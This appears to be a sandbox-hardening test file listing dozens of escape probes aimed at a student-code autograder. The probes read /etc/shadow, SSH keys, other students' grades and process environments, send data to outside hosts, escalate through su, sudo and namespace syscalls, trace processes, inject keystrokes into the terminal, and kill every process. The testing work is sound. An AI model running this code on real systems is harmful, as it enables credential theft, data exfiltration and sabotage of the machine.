"""Attacks on the sandbox's walls: files, networks, processes and system calls."""

from tests.hostile.attack import Attack, cell

READ = """
def read(path, size=4096):
    with open(path, "rb") as file:
        return file.read(size)

def attempt(paths):
    for path in paths:
        try:
            found = read(path)
        except OSError:
            continue
        if found:
            won("read", path, found.decode("utf-8", "replace")[:600])
"""

WALK = """
import os
def visible(folder, words, most):
    seen = 0
    for parent, folders, files in os.walk(folder):
        if parent == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys")]
        seen += len(files) + len(folders)
        for name in files + folders:
            if any(word in name for word in words):
                yield os.path.join(parent, name)
        if seen > most:
            return
"""

# Numbers of system calls by machine; the second one is that of 64-bit ARM.
CALLS = """
import ctypes, platform
ARM = platform.machine() == "aarch64"
NUMBERS = {
    "ptrace": (101, 117), "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "unshare": (272, 97),
    "setns": (308, 268), "chroot": (161, 51), "keyctl": (250, 219), "add_key": (248, 217), "bpf": (321, 280),
    "perf_event_open": (298, 241), "userfaultfd": (323, 282), "io_uring_setup": (425, 425),
    "process_vm_readv": (310, 270), "init_module": (175, 105), "finit_module": (313, 273), "kexec_load": (246, 104),
    "open_by_handle_at": (304, 265), "memfd_create": (319, 279), "fsopen": (430, 430), "open_tree": (428, 428),
    "move_mount": (429, 429), "memfd_secret": (447, 447), "swapon": (167, 224), "reboot": (169, 142),
    "settimeofday": (164, 170), "quotactl": (179, 60), "personality": (135, 92), "shmget": (29, 194),
    "clone3": (435, 435), "pidfd_getfd": (438, 438), "fanotify_init": (300, 262), "syslog": (103, 116),
    "inotify_init1": (294, 26), "inotify_add_watch": (254, 27), "cachestat": (451, 451), "timer_create": (222, 107),
    "landlock_create_ruleset": (444, 444), "seccomp": (317, 277),
}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(name, *arguments):
    ctypes.set_errno(0)
    arguments = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    return libc.syscall(ctypes.c_long(NUMBERS[name][ARM]), *arguments)
"""


def system_call(name: str, tries: str, code: str) -> Attack:
    """An attack through one system call; success alone counts as an escape."""
    return cell(name, tries, CALLS + code, guarded=True)


ATTACKS = [
    cell(
        "reads-shadow",
        "reads the machine's password hashes",
        READ + 'attempt(["/etc/shadow", "/etc/gshadow"])',
        guarded=True,
    ),
    cell(
        "reads-accounts",
        "reads the machine's list of accounts",
        READ + 'if b"root:" in read("/etc/passwd") and SCENE["account"].encode() in read("/etc/passwd", 1 << 20):\n'
        '    won("an account of this machine", SCENE["account"])',
        guarded=True,
    ),
    cell(
        "reads-home",
        "reads the home folders",
        READ
        + """
import os, sys
private = ("notes.txt", ".bash_history", ".ssh/id_rsa", ".profile", ".bashrc")
attempt([os.path.join(home, name) for home in (SCENE["home"], os.sep + "root") for name in private])
for folder in ("/root", "/home", SCENE["home"]):
    try:
        # Python itself may live in a home folder; then the way to it is seen, and nothing else.
        here = [os.path.join(folder, name) for name in os.listdir(folder)]
        more = [path for path in here if not any(place.startswith(path) for place in (sys.prefix, sys.base_prefix))]
        if more:
            won("listed", more[:5])
    except OSError:
        pass
""",
        guarded=True,
    ),
    cell(
        "reads-secret-package",
        "reads the reference and the sources of the tests",
        READ
        + WALK
        + """
root = SCENE["project"]
places = ["/solutions/judge.py", "/solutions/judging/judging.py", "/README.md", "/pyproject.toml"]
attempt([root + place for place in places])
import sys
for folder in [*sys.path, sys.prefix]:
    for path in visible(folder, ["solutions"], 60000):
        if os.path.isdir(path) and os.path.exists(path + "/judge.py"):
            won("found", path)
import importlib.util
try:
    if importlib.util.find_spec("solutions") and importlib.util.find_spec("solutions").origin:
        won("solutions can be imported")
except (ImportError, ValueError):
    pass
""",
        guarded=True,
    ),
    cell(
        "reads-course",
        "reads the source notebooks, the course's key and the records",
        READ
        + """
course = SCENE["course"]
attempt([course + "/.course-key", course + "/source/rnn-cell/rnn-cell.ipynb", course + "/gradebook.db",
         course + "/nbgrader_config.py", "./.course-key", "../.course-key", "../../.course-key"])
""",
        guarded=True,
    ),
    cell(
        "reads-peer",
        "reads what other students handed in, and their grades",
        READ
        + """
course, peer, slug = SCENE["course"], SCENE["peer"], SCENE["slug"]
attempt([f"{course}/{kind}/{peer}/{slug}/{slug}.ipynb" for kind in ("submitted", "autograded")])
attempt([f"{course}/feedback/{peer}/{slug}/{slug}.html", f"{course}/_build/grades/grades.csv"])
""",
        guarded=True,
    ),
    cell(
        "reads-everywhere",
        "walks the whole file system for files of the course",
        WALK
        + """
for path in visible("/", ["gradebook.db", ".course-key", "judging.py", "submitted", SCENE["marker"]], 400_000):
    if "site-packages" not in path:
        won("found", path)
""",
        guarded=True,
        timeouts=1,
    ),
    cell(
        "reads-environments",
        "reads the environments and command lines of all processes",
        READ
        + """
import glob
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        found = read(path, 1 << 20).decode("utf-8", "replace")
    except OSError:
        continue
    if SCENE["marker"] in found or SCENE["course"] in found:
        won("an environment", path, found)
text = " ".join(read(path).decode("utf-8", "replace") for path in glob.glob("/proc/[0-9]*/cmdline"))
if SCENE["course"] in text:
    won("command lines of the grader", text[:300])
import os
if any(SCENE["marker"] in value for value in os.environ.values()):
    won("the grader's environment", dict(os.environ))
""",
        guarded=True,
    ),
    cell(
        "through-proc",
        "reaches the real root through /proc",
        READ
        + """
import os
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for way in ("root", "cwd"):
        attempt([f"/proc/{pid}/{way}{SCENE['course']}/.course-key", f"/proc/{pid}/{way}/.course-key",
                 f"/proc/{pid}/{way}/etc/shadow"])
if len([name for name in os.listdir("/proc") if name.isdigit()]) > 20:
    won("many processes are visible")
attempt(["/proc/kcore", "/proc/kmsg", "/proc/sysrq-trigger", "/proc/keys"])
""",
        guarded=True,
    ),
    cell(
        "through-open-files",
        "uses file descriptors that were left open",
        """
import os, stat
for number in range(3, 1024):
    try:
        kind = os.fstat(number).st_mode
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if stat.S_ISDIR(kind):
        if target not in (os.getcwd(), "/proc", "/tmp"):
            won("an open folder", target, os.listdir(number)[:5])
    elif stat.S_ISREG(kind):
        if any(word in target for word in (SCENE["course"], SCENE["project"] + "/solutions", "gradebook")):
            won("an open file", target)
""",
        guarded=True,
    ),
    cell(
        "through-devices",
        "reads disks and memory through device files",
        READ
        + """
import glob, os, stat
attempt(["/dev/mem", "/dev/kmem", "/dev/port", *glob.glob("/dev/[svx]d[a-z]*"), *glob.glob("/dev/nvme*")])
for kind, number in ((stat.S_IFBLK, os.makedev(254, 0)), (stat.S_IFBLK, os.makedev(8, 0)),
                     (stat.S_IFCHR, os.makedev(1, 1))):
    try:
        os.mknod("device", kind | 0o600, number)
        won("made a device", read("device", 16))
    except OSError:
        pass
""",
        guarded=True,
    ),
    cell(
        "writes-outside",
        "writes files into every folder it can name",
        """
import os, sys
folders = [*SCENE["outside"], *sys.path, sys.prefix, "/", "/etc", "/usr/local/bin", "/var/tmp", "/root"]
for folder in folders:
    try:
        with open(os.path.join(folder or ".", "pwned-file"), "w") as file:
            file.write(SCENE["marker"])
    except OSError:
        pass
""",
        guarded=True,
    ),
    cell(
        "edits-python",
        "changes the Python that grades others",
        """
import os, numpy, unrolled
for module in (numpy, unrolled, os, json):
    try:
        with open(module.__file__, "a") as file:
            file.write("")
        won("can write to", module.__file__)
    except OSError:
        pass
    try:
        with open(os.path.join(os.path.dirname(module.__file__), "pwned-module.py"), "w") as file:
            file.write("")
        won("can write beside", module.__file__)
    except OSError:
        pass
""",
        guarded=True,
    ),
    cell(
        "network-tcp",
        "connects to a server on the grader's machine and beyond",
        """
import socket
for address in (("127.0.0.1", SCENE["port"]), ("localhost", SCENE["port"]), ("192.0.2.1", 80), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.3) as link:
            link.sendall(b"secrets")
            won("connected to", address)
    except OSError:
        pass
""",
        guarded=True,
    ),
    cell(
        "network-other",
        "sends datagrams, asks for names, opens raw and odd sockets",
        """
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW), (40, socket.SOCK_STREAM),
                     (38, socket.SOCK_SEQPACKET)):
    try:
        socket.socket(family, kind, 255 if kind == socket.SOCK_RAW else 0).close()
        won("a socket of kind", family, kind)
    except OSError:
        pass
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(b"secrets", ("127.0.0.1", SCENE["port"]))
except OSError:
    pass
try:
    won("a name was found", socket.getaddrinfo("example.com", 80)[0][4])
except OSError:
    pass
""",
        guarded=True,
    ),
    cell(
        "network-unix",
        "connects to sockets in files and in the abstract space",
        """
import glob, socket
paths = [SCENE["socket"], "\\0" + SCENE["abstract"], *glob.glob("/run/**/*.sock", recursive=True),
         *glob.glob("/tmp/**/*.sock", recursive=True), *glob.glob("/var/run/*.sock")]
for line in open("/proc/net/unix").readlines()[1:] if glob.glob("/proc/net/unix") else []:
    path = line.split()[-1]
    if path.startswith(("/", "@")):
        paths.append(path.replace("@", "\\0", 1))
for path in paths:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as link:
                link.settimeout(0.3)
                link.connect(path)
                won("connected to", path)
        except OSError:
            pass
""",
        guarded=True,
    ),
    cell(
        "runs-programs",
        "runs other programs, those with raised rights too",
        """
import os, subprocess
for command in (["/usr/bin/su", "-c", "id"], ["/usr/bin/sudo", "-n", "id"], ["/bin/mount"], ["/usr/bin/passwd", "-S"],
                ["/usr/bin/unshare", "-r", "id"], ["/usr/bin/nsenter", "-t", "1", "-m", "id"]):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=2)
    except (OSError, subprocess.SubprocessError):
        continue
    if "uid=0" in done.stdout or SCENE["account"] in done.stdout:
        won(command, done.stdout[:200])
""",
        guarded=True,
    ),
    cell(
        "becomes-root",
        "asks for root's rights back",
        CALLS
        + """
import os
for number in (0,):
    for change in (os.setuid, os.seteuid, os.setgid, lambda n: os.setresuid(n, n, n), lambda n: os.setgroups([n])):
        try:
            change(number)
            won("changed to", number, os.getresuid(), os.getgroups())
        except OSError:
            pass
lines = dict(line.split(":\\t") for line in open("/proc/self/status").read().splitlines() if line.startswith("Cap"))
if int(lines["CapEff"], 16) or int(lines["CapPrm"], 16):
    won("capabilities are left", lines)
if "NoNewPrivs:\\t1" not in open("/proc/self/status").read():
    won("may gain privileges by running programs")
""",
        guarded=True,
    ),
    system_call(
        "traces",
        "traces its parent and peers",
        """
import os
for pid in range(1, 50):
    if pid != os.getpid() and call("ptrace", 16, pid, 0, 0) == 0:
        won("traces process", pid)
""",
    ),
    system_call(
        "reads-memory-of-others",
        "reads the memory of other processes",
        """
import os
buffer = ctypes.create_string_buffer(64)
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
mine, theirs = Span(ctypes.addressof(buffer), 64), Span(id(call), 64)
for pid in [int(name) for name in os.listdir("/proc") if name.isdigit()]:
    if pid != os.getpid() and call("process_vm_readv", pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        won("read the memory of process", pid)
    try:
        if pid != os.getpid():
            with open(f"/proc/{pid}/mem", "rb") as memory:
                won("opened the memory of process", pid)
    except OSError:
        pass
""",
    ),
    system_call(
        "makes-namespaces",
        "makes namespaces in which it is root",
        """
for flag in (0x10000000, 0x10000000 | 0x00020000, 0x40000000, 0x20000000, 0x02000000):
    if call("unshare", flag) == 0:
        won("a namespace", hex(flag))
""",
    ),
    system_call(
        "clones-into-namespaces",
        "makes namespaces through clone and clone3",
        """
import os
class Arguments(ctypes.Structure):
    _fields_ = [(name, ctypes.c_uint64) for name in "abcdxfghijk"]  # a: flags, x: signal
number = call("clone3", ctypes.byref(Arguments(a=0x10000000, x=17)), ctypes.sizeof(Arguments))
if number == 0:
    os._exit(0)
if number > 0:
    won("clone3 made a user namespace")
clone = 220 if ARM else 56
number = libc.syscall(ctypes.c_long(clone), ctypes.c_long(0x10000000 | 17), 0, 0, 0, 0)
if number == 0:
    os._exit(0)
if number > 0:
    won("clone made a user namespace")
""",
    ),
    system_call(
        "joins-namespaces",
        "joins the namespaces of the grader",
        """
import os
for pid in ("1", str(os.getppid()), "self"):
    for kind in ("mnt", "net", "pid", "user"):
        try:
            number = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        if call("setns", number, 0) == 0:
            won("joined", pid, kind)
        os.close(number)
""",
    ),
    system_call(
        "mounts",
        "mounts, unmounts and moves file systems",
        """
import os
os.makedirs("here", exist_ok=True)
if call("mount", b"none", b"here", b"tmpfs", 0, 0) == 0:
    won("mounted")
if call("mount", 0, b"/", 0, 0x1000 | 0x20, 0) == 0:
    won("mounted the root writable")
if call("umount2", b"/", 2) == 0 or call("umount2", b"/proc", 2) == 0:
    won("unmounted")
for name in ("fsopen", "open_tree", "move_mount"):
    if call(name, b"tmpfs" if name == "fsopen" else -100, 0 if name == "fsopen" else b"/", 1, 0, 0) >= 0:
        won(name)
""",
    ),
    system_call(
        "changes-root",
        "changes the root folder and climbs out",
        """
import os
os.makedirs("cage", exist_ok=True)
if call("chroot", b"cage") == 0:
    won("chroot")
if call("pivot_root", b".", b".") == 0:
    won("pivot_root")
""",
    ),
    system_call(
        "opens-by-handle",
        "opens files by their number on the disk",
        """
buffer = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0\\x02\\0\\0\\0\\0\\0\\0\\0", 64)
import os
number = os.open("/", os.O_RDONLY)
if call("open_by_handle_at", number, buffer, 0) >= 0:
    won("opened by handle")
""",
    ),
    system_call(
        "hidden-memory",
        "keeps memory outside the limits",
        """
for name in ("memfd_create", "memfd_secret"):
    number = call(name, b"x", 0) if name == "memfd_create" else call(name, 0)
    if number >= 0:
        won(name)
""",
    ),
    system_call(
        "kernel-interfaces",
        "opens kernel interfaces with a long record of holes",
        """
buffer = ctypes.create_string_buffer(256)
for name, arguments in (("userfaultfd", (0,)), ("userfaultfd", (1,)), ("io_uring_setup", (4, buffer)),
                        ("bpf", (0, buffer, 128)), ("perf_event_open", (buffer, 0, -1, -1, 0)),
                        ("fanotify_init", (0, 0)), ("add_key", (b"user", b"pwned", b"x", 1, -3)),
                        ("keyctl", (0, -3, 1))):
    if call(name, *arguments) >= 0:
        won(name)
""",
    ),
    system_call(
        "machine-control",
        "loads modules, another kernel, swaps, sets the clock",
        """
for name, arguments in (("init_module", (b"x", 1, b"")), ("finit_module", (0, b"", 0)), ("kexec_load", (0, 0, 0, 0)),
                        ("swapon", (b"/dev/null", 0)), ("settimeofday", (0, ctypes.byref((ctypes.c_int * 2)(0, 0)))),
                        ("reboot", (0xFEE1DEAD, 672274793, 0, 0)),
                        ("syslog", (3, ctypes.create_string_buffer(64), 64))):
    if call(name, *arguments) == 0:
        won(name)
""",
    ),
    system_call(
        "other-call-tables",
        "uses the call tables of other machine types",
        """
if not ARM:
    X32 = 0x40000000
    if libc.syscall(ctypes.c_long(X32 | 39)) > 0:
        won("x32 calls work")
    import mmap
    try:
        code = mmap.mmap(-1, 4096, prot=7, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
        code.write(bytes.fromhex("53b814000000cd805bc3"))  # getpid by the 32-bit table
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        if 0 < ctypes.CFUNCTYPE(ctypes.c_int)(address)() < 1 << 22:
            won("32-bit calls work")
    except OSError:
        pass
""",
    ),
    system_call(
        "shared-memory",
        "leaves messages in the machine's shared memory",
        """
import os
identifier = call("shmget", 0x50574E, 4096, 0o1666)
if identifier >= 0:
    os.makedirs("/dev/shm", exist_ok=True) if os.access("/dev", os.W_OK) else None
try:
    open("/dev/shm/pwned-shared", "w").write("x")
except OSError:
    pass
""",
    ),
    cell(
        "kills-everything",
        "sends SIGKILL to everything it may",
        "import os, signal; os.kill(-1, signal.SIGKILL)",
        guarded=True,
    ),
    cell(
        "kills-parent",
        "kills its parent and its process group",
        """
import os, signal
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
    for target in (os.getppid(), -os.getpgrp() if os.getpgrp() else 0):
        try:
            if target not in (0, 1):
                os.kill(target, number)
        except OSError:
            pass
""",
        guarded=True,
    ),
    cell(
        "kills-by-number",
        "kills the grader by its process number",
        """
import os, signal
for target in (SCENE["grader"], *range(2, 400)):
    try:
        if target != os.getpid():
            os.kill(target, signal.SIGKILL)
            if target == SCENE["grader"]:
                won("killed the grader")
    except OSError:
        pass
""",
        guarded=True,
    ),
    cell(
        "writes-to-terminal",
        "pushes keys into the grader's terminal",
        """
import fcntl, os, termios
for number in (0, 1, 2):
    try:
        fcntl.ioctl(number, termios.TIOCSTI, b"x")
        won("pushed a key")
    except OSError:
        pass
try:
    os.open("/dev/tty", os.O_RDWR)
    won("opened the terminal")
except OSError:
    pass
""",
        guarded=True,
    ),
    cell(
        "changes-settings",
        "writes kernel settings and control groups",
        """
import glob
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/self/oom_score_adj",
             "/proc/1/oom_score_adj", *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20]):
    try:
        with open(path, "w") as file:
            file.write("-1000" if "oom" in path else "0" if "cgroup" in path else "pwned")
        won("wrote", path)
    except OSError:
        pass
""",
        guarded=True,
    ),
]
